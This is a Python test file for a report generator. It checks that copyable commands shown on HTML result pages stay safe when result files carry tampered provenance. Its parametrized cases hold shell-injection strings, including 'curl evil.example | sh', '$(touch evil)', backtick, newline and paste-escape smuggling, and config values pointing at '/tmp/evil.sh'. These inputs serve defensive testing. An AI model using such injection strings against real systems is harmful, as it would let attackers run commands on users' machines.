"""Commands offered for copying: whatever a result file holds, what is pasted does no harm."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING, Any

import html5lib
import pytest

import reports
from harness.records import identity
from reports.text import copied
from tests.make_trials import make_trial, write_sweep
from tests.reports import sweeps

if TYPE_CHECKING:
    from pathlib import Path


HTML = "{http://www.w3.org/1999/xhtml}"


def page(folder: Path) -> Any:
    return html5lib.parse(reports.render(folder).read_text(encoding="utf-8"))


def offered(folder: Path) -> list[str]:
    """Return the texts beside a Copy button: what a reader pastes."""
    boxes = [one for one in page(folder).iter(f"{HTML}div") if one.get("class") == "copy"]
    return ["".join(code.itertext()) for box in boxes for code in box.iter(f"{HTML}code")]


def apart(folder: Path) -> str:
    found = [one for one in page(folder).iter(f"{HTML}p") if "apart" in (one.get("class") or "")]
    return "\n".join("".join(one.itertext()) for one in found)


def stranger(folder: Path, command: str, **config: Any) -> Path:
    trial = make_trial(
        sweeps.processes(2, 10), provenance={"command": command, "harness_version": "0", "git": {}}
    )
    trial["point"]["config"].update(config)
    trial["content_sha256"] = identity.content_hash(trial)
    return write_sweep(folder, [trial])


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "python -m harness bs=1; touch evil",
        "python -m harness $(touch evil)",
        "python -m harness `touch evil` && touch evil",
        "python -m harness bs=1\ntouch evil\n",
        "python -m harness 'bs=1\x1b[201~\ntouch evil\n'",
        "python -m harness bs=1 > evil",
        "python -m harness 'bs=1",
        "python3 -c 'import os' -m harness",
    ],
)
def test_no_page_offers_what_a_shell_would_run(command: str, tmp_path: Path) -> None:
    for text in offered(stranger(tmp_path, command)):
        assert text.isprintable()
        words = shlex.split(text)
        assert tuple(words[:3]) == copied.PROGRAM
        assert shlex.join(words) == text  # every word is quoted: the shell reads words, no more
        assert not [one for one in words[3:] if "evil" in one]


@pytest.mark.parametrize(
    "word",
    ["backend.python=/tmp/evil.sh", "outputs=/tmp/evil", "hydra/launcher=evil",
     "--config-dir=/tmp/evil", "hydra.searchpath=[/tmp/evil]", "log_file=/tmp/evil"],
)  # fmt: skip
def test_what_runs_or_says_where_stands_apart(word: str, tmp_path: Path) -> None:
    folder = stranger(tmp_path, f"python -m harness -m backend=fake bs=1,2 '{word}'")
    commands = offered(folder)
    assert "python -m harness -m backend=fake bs=1,2" in commands
    assert not [one for one in commands if "evil" in one]
    assert f"add it only if you know it: {shlex.quote(word)}" in apart(folder)


def test_the_command_of_a_point_is_made_of_its_facts_and_nothing_that_runs(tmp_path: Path) -> None:
    options = {"python": "/srv/evil.sh", "durations": "encoder:1,decoder:2", "x": "'; touch evil"}
    folder = stranger(
        tmp_path, "python -m harness", backend={"name": "fake", "options": options},
        quant="$(touch evil)",
    )  # fmt: skip
    again = next(one for one in offered(folder) if "bs=1" in one)
    assert "evil" not in again
    # A list in an option is one value: Hydra would read a bare comma as a sweep.
    assert shlex.split(again)[-2] == "backend.durations='encoder:1,decoder:2'"
    for text in ("/srv/evil.sh", "touch evil"):
        assert text in apart(folder)


def test_another_program_is_shown_and_not_offered(tmp_path: Path) -> None:
    folder = stranger(tmp_path, "curl evil.example | sh")
    assert "not offered for copying: curl evil.example | sh" in apart(folder)


@pytest.mark.parametrize("study", copied.STUDIES)
def test_our_own_studies_are_offered(study: str) -> None:
    assert copied.of_text(f"python -m harness {study}") == copied.CopiedCommand(
        f"python -m harness {study}"
    )
    assert copied.of_text("python -m harness fetch tacotron2.url=http://evil").apart
